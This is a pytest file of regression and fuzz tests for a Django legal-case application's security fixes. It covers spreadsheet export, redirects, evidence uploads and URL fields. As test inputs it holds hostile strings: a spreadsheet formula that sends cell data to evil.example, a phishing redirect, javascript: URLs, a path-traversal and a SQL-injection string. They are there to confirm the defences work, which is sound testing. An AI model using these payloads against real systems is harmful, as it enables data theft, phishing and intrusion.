"""Regression tests for the findings of issue 11 (items 7 and 8) and a bounded fuzz test of public pages."""

import csv
import io
import json
import stat

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from huquq.cases import services as case_services
from huquq.cases.forms import PersonForm
from huquq.cases.tests.factories import make_case
from huquq.registry.employers import services as employer_services
from huquq.reports.exports import csv_bytes, xlsx_bytes
from huquq.safety import clean_text, neutralise_formula

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(autouse=True)
def _keys_and_media(monkeypatch, settings, tmp_path):
    monkeypatch.setenv("HUQUQ_FIELD_KEYS", "test-key-one")
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.mark.parametrize("text", [PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_prefixes_are_neutralised(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["-12", "+7.5", "plain", 42, None, ""])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise_formula(value) == value


def test_statistics_csv_and_xlsx_carry_no_formula():
    rows = [["label", "count"], [PAYLOAD, 3]]
    cells = list(csv.reader(io.StringIO(csv_bytes(rows, notes=[PAYLOAD]).decode("utf-8-sig"))))
    assert cells[1][0].startswith("'=") and cells[-1][0].startswith("'=")
    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows, title=PAYLOAD)))["data"]
    assert sheet["A2"].value.startswith("'=") and sheet["A2"].data_type == "s" and sheet["B2"].value == 3


def test_cases_csv_export_carries_no_formula(client, org_a, make_user):
    user = make_user(org_a, "org_admin")
    make_case(org_a, user, host_city=PAYLOAD)
    client.force_login(user)
    response = client.get(reverse("cases:export_csv"))
    body = (b"".join(response.streaming_content) if response.streaming else response.content).decode("utf-8-sig")
    assert PAYLOAD not in [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + PAYLOAD in body.replace('""', '"')


def test_deadline_done_does_not_redirect_off_site(client, org_a, make_user):
    import datetime

    user = make_user(org_a, "caseworker")
    case = make_case(org_a, user)
    deadline = case_services.add_deadline(case, actor=user, due_on=datetime.date.today(), title="court")
    client.force_login(user)
    url = reverse("cases:deadline_done", args=[case.pk, deadline.pk])
    response = client.post(url, {"next": "https://evil.example/phish"})
    assert response.status_code == 302 and response.url == reverse("cases:detail", args=[case.pk])
    deadline2 = case_services.add_deadline(case, actor=user, due_on=datetime.date.today(), title="again")
    response = client.post(reverse("cases:deadline_done", args=[case.pk, deadline2.pk]),
                           {"next": reverse("cases:deadlines")})
    assert response.url == reverse("cases:deadlines")  # a local target still works


def test_far_future_dates_answer_400_with_a_message(client, db):  # the status page reads the rulebook version
    from huquq.rules.tests.test_pages import FORM

    response = client.post("/en/rules/", dict(FORM, entry_date="9999-12-30", as_of="9999-12-31", format="html"))
    assert response.status_code == 400 and "the rules cover dates up to 2099" in response.content.decode()


def test_huge_page_number_is_404_with_a_message(client, org_a, make_user):
    client.force_login(make_user(org_a, "caseworker"))
    response = client.get("/en/cases/", {"page": "99999999999999999999"})
    assert response.status_code == 404 and "no page with that number" in response.content.decode()


@pytest.mark.parametrize("content_type,data", [
    ("video/mp4", b"MZ\x90\x00 a Windows program"),
    ("text/plain", b"\x00\x01binary\xff\xfe"),
    ("image/webp", b"RIFF0000AVI LIST"),
])
def test_evidence_content_must_match_every_declared_type(org_a, content_type, data):
    from django.core.exceptions import ValidationError

    case = make_case(org_a)
    with pytest.raises(ValidationError) as refused:
        case_services.store_evidence(case, actor=None, name="x", content_type=content_type, data=data)
    assert refused.value.code == "type"


def test_evidence_of_right_type_is_stored_private(org_a):
    case = make_case(org_a)
    evidence = case_services.store_evidence(case, actor=None, name="clip.mp4", content_type="video/mp4",
                                            data=b"\x00\x00\x00\x18ftypmp42 rest of file")
    path = case_services.evidence_dir() / evidence.storage_name
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(case_services.evidence_dir().stat().st_mode) == 0o700


@pytest.mark.parametrize("website", ["javascript:alert(1)", "data:text/html,<script>", "//evil.example", "ftp://x"])
def test_directory_website_must_be_http(db, website):
    from django.core.exceptions import ValidationError

    from huquq.registry.directory.forms import EntryForm
    from huquq.registry.directory.models import DirectoryEntry
    from huquq.registry.directory.services import update_entry

    form = EntryForm(data={"name": "Help centre", "website": website, "languages_text": "", "areas_text": ""})
    assert not form.is_valid() and "website" in form.errors
    entry = DirectoryEntry.objects.create(name="Help centre", slug="help-centre")
    with pytest.raises(ValidationError):
        update_entry(actor=_superuser(), entry=entry, data={"website": website})


def test_public_api_never_serves_a_non_http_website(client, db):
    from huquq.registry.directory.models import DirectoryEntry

    DirectoryEntry.objects.create(name="Old entry", slug="old-entry", website="javascript:alert(1)")
    body = client.get(reverse("registry:help_api")).content.decode()
    assert "javascript:" not in body


def _superuser():
    from huquq.accounts.models import User

    return User.objects.create_superuser("root-" + str(User.objects.count()), password="x" * 12)


def test_free_text_is_capped_and_loses_bidi_controls():
    big = PersonForm(data={"name": "x" * 2_000_000})
    assert not big.is_valid() and "name" in big.errors
    spoof = "Ali \u202eabc\u202c Valiev"
    assert clean_text(spoof) == "Ali abc Valiev"
    form = PersonForm(data={"name": spoof})
    form.is_valid()
    assert form.cleaned_data.get("name") == "Ali abc Valiev"


def test_dumpdata_prints_ciphertext_not_names(org_a, capsys):
    make_case(org_a, name="Севархон Маннонова")
    call_command("dumpdata", "cases.person", format="json")
    out = capsys.readouterr().out
    assert "Маннонова" not in out and "AC1234567" not in out
    rows = json.loads(out)
    assert rows[0]["fields"]["name"].startswith("enc2:")  # bound to the row it came from


def test_cli_export_file_is_private(org_a, tmp_path):
    make_case(org_a)
    out = tmp_path / "cases.json"
    call_command("cases", "export", "-o", str(out))
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_only_registry_moderators_moderate_not_every_org_admin(org_a, make_user):
    admin = make_user(org_a, "org_admin")
    assert not employer_services.is_moderator(admin)
    moderator = make_user(org_a, "caseworker", is_registry_moderator=True)
    assert employer_services.is_moderator(moderator)


PUBLIC_GET = ["/en/", "/ru/rules/", "/en/registry/help/", "/en/registry/help/api/entries.json",
              "/en/registry/warnings/", "/en/registry/warnings/feed.json", "/en/reports/",
              "/en/accounts/login/"]
PUBLIC_POST = ["/en/rules/", "/en/accounts/login/", "/en/registry/help/"]
PARAM_NAMES = ["q", "page", "entry_date", "as_of", "citizenship", "host_country", "region", "employment",
               "format", "next", "lang", "country", "service", "city", "username", "password", "kind", "year"]
texts = st.one_of(st.text(max_size=40), st.sampled_from(["9999-12-31", "0000-00-00", "-1", "1e309", "99999999999999999999",
                                                         "javascript:alert(1)", "../../etc/passwd", "\x00", "RU-MOW",
                                                         "\u202e", "' OR 1=1 --"]))
params = st.dictionaries(st.sampled_from(PARAM_NAMES), texts, max_size=6)


@pytest.mark.django_db
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(method=st.sampled_from(["get", "post"]), data=params, index=st.integers(min_value=0, max_value=20))
def test_fuzzed_public_parameters_never_cause_a_server_error(client, method, data, index):
    urls = PUBLIC_GET if method == "get" else PUBLIC_POST
    data = {k: v.replace("\x00", "") if method == "post" else v for k, v in data.items()}
    response = getattr(client, method)(urls[index % len(urls)], data)
    assert response.status_code < 500
